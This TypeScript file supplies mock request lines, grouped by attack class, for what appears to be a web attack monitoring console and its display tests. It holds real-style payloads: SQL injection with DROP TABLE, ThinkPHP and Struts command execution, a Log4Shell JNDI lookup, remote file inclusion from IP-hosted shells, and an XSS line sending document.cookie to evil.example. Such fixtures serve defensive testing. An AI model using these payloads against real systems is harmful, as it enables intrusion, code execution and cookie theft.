/**
 * Request lines of the web attacks in the mock's attack records, by class. Several carry script
 * payloads (`<script>`, `onerror=`, `javascript:`) and non-ASCII text on purpose: the console must
 * show `client_url` as text only, and Base64 mode must encode it as UTF-8.
 */
interface UrlTemplate {
  method: 'GET' | 'POST' | 'PUT' | 'HEAD';
  /** Path and query, appended to `<scheme>://<target address>[:port]`. */
  path: string;
}

const get = (path: string): UrlTemplate => ({ method: 'GET', path });
const post = (path: string): UrlTemplate => ({ method: 'POST', path });

const URL_TEMPLATES: Readonly<Record<string, readonly UrlTemplate[]>> = {
  sqli: [
    get("/index.php?id=1' AND 1=1 UNION SELECT user(),version()-- -"),
    get('/api/v1/orders?sort=(select+sleep(5))'),
    post("/login.jsp?user=admin'--&pass=x"),
    get('/search?q=1%27%20OR%20%271%27=%271'),
    get('/news/detail?id=12;DROP TABLE users'),
  ],
  codei: [
    get(
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
    ),
    post("/struts2-showcase/index.action?redirect:${#a=new java.lang.ProcessBuilder('id')}"),
    get('/api/exec?cmd=;cat%20/etc/passwd'),
    get('/?x=${jndi:ldap://45.83.64.1:1389/Basic/Command/Base64/aWQ=}'),
  ],
  xss: [
    get('/search?q=<script>alert(document.cookie)</script>'),
    post('/comment?text=<img src=x onerror=alert(1)>'),
    get('/redirect?url=javascript:alert(1)'),
    get("/搜索?关键词=<script>alert('跨站')</script>"),
    get("/profile?name=<svg/onload=fetch('//evil.example/'+document.cookie)>"),
  ],
  lfi: [
    get('/index.php?page=../../../../etc/passwd'),
    get('/download?file=....//....//etc/shadow'),
    get('/view.php?tpl=php://filter/convert.base64-encode/resource=config.php'),
  ],
  rfi: [
    get('/index.php?page=http://185.220.101.4/shell.txt?'),
    get('/include.php?path=ftp://89.248.165.9/x.php'),
  ],
  upload: [
    post('/upload.php'),
    post('/api/v1/avatar/upload?filename=avatar.php.jpg'),
    post('/ueditor/controller.php?action=uploadimage'),
    post('/fckeditor/editor/filemanager/upload/php/upload.php'),
  ],
  path: [
    get('/static/../../../../etc/passwd'),
    get('/..;/WEB-INF/web.xml'),
    get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'),
  ],
  webshell: [
    post('/uploads/2024/shell.php'),
    get('/images/x.jsp?pwd=023&i=whoami'),
    post('/wp-content/plugins/hello.php'),
    post('/.config/cmd.aspx'),
  ],
  csrf: [get('/admin/user/delete?id=12'), post('/account/transfer?to=attacker&amount=1000')],
  ssrf: [
    get('/proxy?url=http://100.100.100.200/latest/meta-data/'),
    get('/fetch?src=http://127.0.0.1:6379/'),
    get('/api/preview?link=file:///etc/passwd'),
  ],
  crlf: [
    get('/redirect?url=%0d%0aSet-Cookie:%20session=attacker'),
    get('/lang?l=en%0d%0aLocation:%20http://evil.example'),
  ],
  template: [
    get('/hello?name={{7*7}}'),
    post("/render?tpl=${T(java.lang.Runtime).getRuntime().exec('id')}"),
  ],
  unauthorized: [
    get('/actuator/env'),
    get('/_cat/indices?v'),
    post('/jenkins/script'),
    get('/druid/index.html'),
  ],
  leak: [
    get('/.git/config'),
    get('/.env'),
    get('/backup.zip'),
    get('/phpinfo.php'),
    get('/.DS_Store'),
  ],
  xxe: [post('/xmlrpc.php'), post('/api/soap/UserService')],
  xpath: [get("/login?user=' or '1'='1&pass=x")],
  ldap: [get('/ldap/search?uid=*)(uid=*))(|(uid=*')],
  bypass: [
    get('/admin;/'),
    get('/%2e/admin/config'),
    get('/api/internal/users?X-Original-URL=/admin'),
  ],
  redirect: [
    get('/login?next=//evil.example.com'),
    get('/out?url=javascript:alert(document.domain)'),
  ],
  generic: [
    post('/wp-login.php'),
    get('/cgi-bin/luci/;stok=/locale?form=country'),
    post('/HNAP1/'),
    post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
    post('/boaform/admin/formLogin'),
  ],
  scan: [
    { method: 'HEAD', path: '/robots.txt' },
    get('/admin/'),
    get('/.well-known/security.txt'),
    get('/nice%20ports%2C/Tri%6Eity.txt%2ebak'),
  ],
  privilege: [{ method: 'PUT', path: '/api/v1/users/1/role?role=admin' }],
  fileWrite: [post('/admin/theme-editor.php?file=header.php')],
  fileRead: [get('/readfile?path=/etc/passwd')],
  fileDelete: [post('/admin/file/delete?path=../../config.php')],
  logic: [post('/api/v1/coupon/redeem?count=-1')],
  timeout: [get('/api/validate?email=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')],
};

/** Every template in one list, so a record stores one small index. */
export const ALL_URL_TEMPLATES: readonly UrlTemplate[] = Object.values(URL_TEMPLATES).flat();

/** The indexes into ALL_URL_TEMPLATES of each class. */
export const URL_CLASS_INDEXES: ReadonlyMap<string, readonly number[]> = (() => {
  const map = new Map<string, number[]>();
  let index = 0;
  for (const [name, list] of Object.entries(URL_TEMPLATES)) {
    map.set(
      name,
      list.map(() => index++),
    );
  }
  return map;
})();
